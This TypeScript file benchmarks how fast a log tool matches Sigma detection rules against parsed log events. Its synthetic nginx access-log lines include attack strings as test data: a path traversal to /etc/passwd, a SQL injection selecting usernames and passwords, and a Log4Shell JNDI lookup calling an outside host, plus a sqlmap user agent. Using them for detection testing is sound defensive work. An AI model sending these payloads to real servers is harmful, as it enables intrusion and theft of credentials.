/**
 * Sigma matching throughput: every shipped rule against each event (rule by rule, and through
 * the rule set that evaluates only the rules whose keywords or fields an event has) of a mix of the 16 Loghub
 * samples (as Vigil parses them) and nginx combined access-log events with their ECS fields
 * (a third of them carrying attack strings the shipped rules name). Vigil's own parse of the same
 * lines is measured in the same rounds, interleaved, as the yardstick: on a shared machine only
 * the figures side by side mean something.
 * Standalone: `npx tsx tests/bench/sigma.ts` prints one JSON line; `npm run bench -- sigma`.
 */
import { parseText } from '../../core/parse';
import { loadSigmaDir, shippedSigmaDir } from '../../core/rules/sigma/load';
import { SigmaRuleSet } from '../../core/rules/sigma/rule-set';
import type { SigmaEvent } from '../../core/rules/sigma/types';
import { combinedFields } from '../fixtures/access-log';
import { LOGHUB_SYSTEMS, rawLines } from '../fixtures/loghub';

const ROUNDS = 5;
const META = { topic: 'logs', partition: 0, offset: '0', timestamp: 0 };

const PATHS = ['/index.html', '/api/v1/items?page=2', '/static/app.js', '/login'];
const ATTACKS = [
  '/index.php?page=../../../etc/passwd',
  '/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/?x=${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/aWQ=}',
];

function accessLines(count: number): string[] {
  const lines: string[] = [];
  for (let i = 0; i < count; i++) {
    const path = i % 3 === 0 ? (ATTACKS[i % ATTACKS.length] as string) : (PATHS[i % PATHS.length] as string);
    const agent =
      i % 7 === 0
        ? 'sqlmap/1.7.2#stable (https://sqlmap.org)'
        : 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0';
    lines.push(
      `192.0.2.${i % 250} - - [11/Oct/2023:14:32:52 +0000] "GET ${path} HTTP/1.1" 200 ${500 + i} "-" "${agent}"`,
    );
  }
  return lines;
}

function toEvent(line: string): SigmaEvent | null {
  const outcome = parseText(line, META);
  if (!outcome.ok) return null;
  return { message: outcome.record.message, fields: { ...outcome.record.fields, ...combinedFields(line) } };
}

export function benchSigma(): Record<string, number | string> {
  const lines = [...LOGHUB_SYSTEMS.flatMap((s) => rawLines(s)), ...accessLines(8000)];
  const events = lines.map(toEvent).filter((e): e is SigmaEvent => e !== null);
  const loadStarted = performance.now();
  const { rules } = loadSigmaDir(shippedSigmaDir());
  const loadMs = performance.now() - loadStarted;
  const ruleSet = new SigmaRuleSet(rules);
  let matched = 0;
  let setMatched = 0;
  let matchMs = 0;
  let setMs = 0;
  let parseMs = 0;
  for (let round = 0; round <= ROUNDS; round++) {
    const p0 = performance.now();
    for (const line of lines) parseText(line, META);
    const p1 = performance.now();
    let hits = 0;
    for (const event of events) for (const rule of rules) if (rule.matches(event)) hits++;
    const p2 = performance.now();
    let setHits = 0;
    for (const event of events) setHits += ruleSet.matchAll(event).length;
    const p3 = performance.now();
    if (round === 0) continue; // warm-up
    parseMs += p1 - p0;
    matchMs += p2 - p1;
    setMs += p3 - p2;
    matched = hits;
    setMatched = setHits;
  }
  const perSecond = (count: number, ms: number): number => Math.round((count * ROUNDS) / (ms / 1000));
  return {
    bench: 'sigma',
    rules: rules.length,
    events: events.length,
    matchesPerPass: matched,
    ruleSetMatchesPerPass: setMatched,
    loadMs: Math.round(loadMs),
    eachRuleEventsPerSecond: perSecond(events.length, matchMs),
    ruleSetEventsPerSecond: perSecond(events.length, setMs),
    parseLinesPerSecondSameRun: perSecond(lines.length, parseMs),
  };
}

if (require.main === module) console.log(JSON.stringify(benchSigma()));
